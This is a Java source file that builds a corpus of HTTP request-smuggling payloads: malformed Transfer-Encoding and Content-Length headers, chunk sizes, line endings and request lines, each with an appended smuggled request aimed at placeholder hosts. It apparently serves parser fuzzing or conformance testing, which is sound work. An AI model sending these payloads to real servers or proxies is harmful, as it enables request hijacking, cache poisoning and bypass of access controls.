package dev.adit.smuggling;

import java.util.ArrayList;
import java.util.List;

/** Requests by which servers have been made to disagree about where a message ends, one list for each class of bug. */
final class Corpus {
    static final String SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: a.test\r\nX: ";
    static final String CHUNKS = "0\r\n\r\n" + SMUGGLED;
    private static final List<String> METHODS = List.of("POST", "GET", "PUT", "DELETE", "HEAD", "OPTIONS");
    static final List<String> CODINGS = List.of(
            "chunked",
            "Chunked",
            "CHUNKED",
            " chunked",
            "\tchunked",
            "chunked ",
            "chunked\t",
            "\u000bchunked",
            "\u000cchunked",
            "chunked\u000b",
            "chunked\u0000",
            "\u0000chunked",
            "\"chunked\"",
            "'chunked'",
            "xchunked",
            "chunkedx",
            "chunke",
            "chunked, identity",
            "identity, chunked",
            "chunked, chunked",
            "chunked;q=1",
            "chunked, gzip",
            "gzip, chunked",
            ",chunked",
            "chunked,",
            "",
            "identity",
            "chunked\r\n identity",
            "\r\n chunked",
            "ch\u00fcnked",
            "\u00a0chunked",
            "chunked\r");
    static final List<String> LENGTHS = List.of(
            "3",
            "+3",
            "-3",
            " 3",
            "3 ",
            "03",
            "0x3",
            "3.0",
            "3e0",
            "3,3",
            "3, 3",
            "3,4",
            "3 4",
            "\"3\"",
            "3;a",
            "",
            "three",
            "3\u0000",
            "\u00003",
            "\u000b3",
            "3\u000b",
            "99999999999999999999",
            "18446744073709551619",
            "4294967299",
            "3_0",
            "\u0663",
            "3\r\n 4",
            "3\r");
    private static final List<String> SIZES = List.of(
            "3",
            "03",
            "000000000000000000003",
            "+3",
            "-3",
            "0x3",
            "3 ",
            " 3",
            "3\t",
            "3;",
            "3;a",
            "3;a=b",
            "3;a=\"b\"",
            "3;a=\"\r\nb\"",
            "3;a=\nb",
            "3\n",
            "3\r",
            "3\r\r\n",
            "3,",
            "3.0",
            "3_",
            "g",
            "ffffffffffffffff3",
            "10000000000000003",
            "3\u0000",
            "3\u000b",
            "");
    private static final List<String> ENDS =
            List.of("\n", "\r", "\r\r\n", "\n\r", "\u0000\r\n", "\u000b\r\n", "\u0085", "\r\n\r");
    private static final List<String> NAMES = List.of(
            "Transfer-Encoding ",
            " Transfer-Encoding",
            "\tTransfer-Encoding",
            "Transfer-Encoding\t",
            "Transfer_Encoding",
            "Transfer-Encoding\u0000",
            "Transfer\u2010Encoding",
            "Transfer-Encoding\u000b",
            "\u0000Transfer-Encoding",
            "Transfer Encoding",
            "X: y\nTransfer-Encoding",
            "X: y\rTransfer-Encoding",
            "Transfer-Encoding:",
            "Content-Length\r\nTransfer-Encoding");
    private static final List<String> LINES = List.of(
            "POST / HTTP/1.0",
            "POST / HTTP/1.2",
            "POST / HTTP/2.0",
            "POST / HTTP/0.9",
            "POST / HTTP/1.10",
            "POST / HTTP/01.1",
            "POST / http/1.1",
            "POST / HTTP/1.1 ",
            "POST / HTTP/1.1\t",
            "POST  / HTTP/1.1",
            "POST\t/ HTTP/1.1",
            "POST /\tHTTP/1.1",
            " POST / HTTP/1.1",
            "POST /",
            "POST / x HTTP/1.1",
            "POST http://a.test/ HTTP/1.1",
            "POST http://b.test/ HTTP/1.1",
            "POST //a.test HTTP/1.1",
            "POST * HTTP/1.1",
            "POST a.test:80 HTTP/1.1",
            "CONNECT a.test:80 HTTP/1.1",
            "POST /\u0000 HTTP/1.1",
            "POST /\n HTTP/1.1",
            "POST /%0d%0aX:%20y HTTP/1.1",
            "POST /# HTTP/1.1",
            "PO ST / HTTP/1.1",
            "POST / HTTP/1.1\r\nGET /smuggled HTTP/1.1");

    private Corpus() {}

    /** What is sent in one case, without the request that follows it. */
    record Case(String bug, String bytes) {}

    /** With hosts that name the case. */
    static String numbered(String text, int number) {
        return text.replace("a.test", "a" + number + ".test").replace("b.test", "b" + number + ".test");
    }

    static List<Case> all() {
        var cases = new ArrayList<Case>();
        for (var method : METHODS) {
            for (var coding : CODINGS) {
                add(
                        cases,
                        "coding beside a length",
                        method,
                        "Content-Length: 5\r\nTransfer-Encoding: " + coding,
                        CHUNKS);
            }
            for (var length : LENGTHS) {
                add(cases, "length", method, "Content-Length: " + length, "abc" + SMUGGLED);
            }
        }
        for (var coding : CODINGS) {
            add(cases, "coding", "POST", "Transfer-Encoding: " + coding, CHUNKS);
            add(
                    cases,
                    "coding before a length",
                    "POST",
                    "Transfer-Encoding: " + coding + "\r\nContent-Length: 5",
                    CHUNKS);
            add(cases, "two codings", "POST", "Transfer-Encoding: chunked\r\nTransfer-Encoding: " + coding, CHUNKS);
        }
        for (var length : LENGTHS) {
            add(cases, "two lengths", "POST", "Content-Length: 0\r\nContent-Length: " + length, "abc" + SMUGGLED);
            add(cases, "two lengths", "POST", "Content-Length: " + length + "\r\nContent-Length: 3", "abc" + SMUGGLED);
        }
        for (var size : SIZES) {
            add(cases, "chunk size", "POST", "Transfer-Encoding: chunked", size + "\r\nabc\r\n0\r\n\r\n");
            add(
                    cases,
                    "last chunk",
                    "POST",
                    "Transfer-Encoding: chunked",
                    "3\r\nabc\r\n" + size.replace('3', '0') + "\r\n\r\n" + SMUGGLED);
        }
        for (var end : ENDS) {
            cases.add(new Case("line end", "POST / HTTP/1.1" + end + "Host: a.test\r\nContent-Length: 3\r\n\r\nabc"));
            cases.add(new Case("line end", "POST / HTTP/1.1\r\nHost: a.test" + end + "Content-Length: 3\r\n\r\nabc"));
            cases.add(new Case("line end", "POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3" + end + "\r\nabc"));
            add(cases, "chunk end", "POST", "Transfer-Encoding: chunked", "3" + end + "abc\r\n0\r\n\r\n");
            add(cases, "chunk end", "POST", "Transfer-Encoding: chunked", "3\r\nabc" + end + "0\r\n\r\n");
            add(cases, "chunk end", "POST", "Transfer-Encoding: chunked", "3\r\nabc\r\n0" + end + "\r\n" + SMUGGLED);
        }
        for (var name : NAMES) {
            add(cases, "field name", "POST", name + ": chunked\r\nContent-Length: 5", CHUNKS);
            add(cases, "trailer", "POST", "Transfer-Encoding: chunked", "0\r\n" + name + ": x\r\n\r\n");
        }
        for (var line : LINES) {
            cases.add(new Case("request line", line + "\r\nHost: a.test\r\nContent-Length: 3\r\n\r\nabc"));
            cases.add(
                    new Case("request line", line + "\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKS));
        }
        for (var field : List.of(
                "Content-Length",
                "Transfer-Encoding",
                "Host",
                "Content-Length, Transfer-Encoding",
                "close, Content-Length")) {
            add(cases, "nominated", "POST", "Connection: " + field + "\r\nContent-Length: 3", "abc" + SMUGGLED);
            add(cases, "nominated", "POST", "Connection: " + field + "\r\nTransfer-Encoding: chunked", CHUNKS);
        }
        for (var upgrade : List.of("h2c", "websocket", "HTTP/2.0", "TLS/1.0")) {
            add(
                    cases,
                    "upgrade",
                    "POST",
                    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: " + upgrade
                            + "\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: 3",
                    "abc");
        }
        for (var trailer : List.of(
                "Content-Length: 5",
                "Transfer-Encoding: chunked",
                "Host: b.test",
                "X: a\r\n b",
                "X\u0000: a",
                "X: a\rb")) {
            add(cases, "trailer", "POST", "Transfer-Encoding: chunked", "0\r\n" + trailer + "\r\n\r\n");
        }
        return cases;
    }

    private static void add(List<Case> cases, String bug, String method, String fields, String body) {
        cases.add(new Case(bug, method + " / HTTP/1.1\r\nHost: a.test\r\n" + fields + "\r\n\r\n" + body));
    }
}
